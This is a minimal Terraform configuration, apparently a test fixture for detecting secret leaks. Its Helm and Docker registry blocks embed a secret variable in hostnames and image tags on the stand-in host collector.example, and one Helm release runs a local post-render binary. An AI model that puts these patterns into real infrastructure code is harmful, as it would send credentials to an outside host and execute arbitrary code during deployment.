resource "helm_release" "a" {
  name       = "a"
  chart      = "a"
  repository = "https://${var.secret}.collector.example"
}

data "helm_template" "a" {
  name       = "a"
  chart      = "a"
  repository = var.secret
}

resource "helm_release" "b" {
  name  = "b"
  chart = "b"

  postrender {
    binary_path = "./job"
  }
}

data "docker_registry_image" "a" {
  name = "collector.example/a:${var.secret}"
}

variable "secret" {
  type = string
}
